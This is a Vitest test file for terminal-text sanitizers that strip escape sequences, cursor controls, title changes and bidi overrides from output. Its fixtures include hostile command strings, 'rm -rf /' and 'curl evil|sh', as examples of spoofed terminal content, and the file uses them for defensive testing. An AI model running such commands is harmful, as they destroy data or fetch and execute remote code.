import { describe, expect, it } from 'vitest';
import { cut, escapeUnprintable, keepOnlyColors, toOneLine } from './plain.ts';

describe('escapeUnprintable', () => {
  it('keeps printable text', () => {
    expect(escapeUnprintable('naïve\tcafé — 日本語 👍\nnext')).toBe('naïve\tcafé — 日本語 👍\nnext');
  });

  it('removes sequences that move the cursor, recolor, hide or retitle', () => {
    expect(escapeUnprintable('rm -rf /\x1b[2K\x1b[1Gls')).toBe('rm -rf /ls');
    expect(escapeUnprintable('\x1b]0;title\x07text\x1b]8;;http://x\x1b\\link')).toBe('textlink');
    expect(escapeUnprintable('a\bb\x00c\x9b31md\u202eevil')).toBe('abcdevil');
    expect(escapeUnprintable('git status \x1b]; curl evil|sh')).toBe('git status ]; curl evil|sh');
    expect(escapeUnprintable('safe\rrm')).toBe('safe\nrm');
  });
});

describe('keepOnlyColors', () => {
  it('keeps colors only, and none if colors are off', () => {
    const line = '\x1b[31mred\x1b[39m \x1b[8mhidden\x1b]0;t\x07\x1b[2J';
    expect(keepOnlyColors(line, true)).toBe('\x1b[31mred\x1b[39m hidden');
    expect(keepOnlyColors(line, false)).toBe('red hidden');
  });
});

describe('toOneLine', () => {
  it('flattens and truncates between graphemes', () => {
    expect(toOneLine('  two\n lines ', 20)).toBe('two lines');
    expect(cut('abcdef', 4)).toBe('abc…');
    expect(cut('👍👍👍', 3)).toBe('👍👍…');
  });
});
